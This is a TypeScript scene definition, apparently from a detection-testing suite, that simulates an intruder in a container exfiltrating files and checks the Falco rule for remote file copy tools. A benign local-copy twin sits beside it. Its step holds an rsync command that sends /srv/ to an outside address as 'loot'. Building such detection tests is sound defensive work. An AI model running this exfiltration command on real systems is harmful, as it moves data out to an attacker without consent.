import { container, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'remote-copy-in-container',
  story: 'In a container an intruder copies files to a machine of his with rsync.',
  technique: 'T1020',
  place: container(),
  falco: ['Launch Remote File Copy Tools in Container'],
  lanner: [],
  steps: [run('rsync', { with: ['-a', '/srv/', '198.51.100.7:loot'] })],
  twin: {
    because: 'files are copied within the container.',
    steps: [run('cp', { with: ['-a', '/srv/in', '/srv/out'] })],
  },
});
